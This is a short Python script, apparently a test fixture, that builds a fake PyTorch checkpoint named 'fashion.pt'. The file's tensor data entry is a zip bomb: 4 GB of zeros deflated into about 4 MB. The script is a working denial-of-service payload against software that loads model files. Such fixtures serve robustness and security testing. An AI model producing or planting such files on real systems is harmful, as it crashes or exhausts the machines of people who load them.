"""Writes fashion.pt: 4 GB of zeros in 4 MB, where torch expects the bytes of a tensor."""

import io
import zipfile

import torch

SIZE = 2**32


def make():
    honest, bomb = io.BytesIO(), io.BytesIO()
    torch.save({"1.weight": torch.zeros(10, 784), "1.bias": torch.zeros(10)}, honest)
    with zipfile.ZipFile(honest) as old, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name in old.namelist():
            with new.open(name, "w", force_zip64=True) as entry:
                if name.endswith("data/0"):
                    for _ in range(64):
                        entry.write(bytes(2**22))
                else:
                    entry.write(old.read(name))
    return {"fashion.pt": bomb.getvalue()}
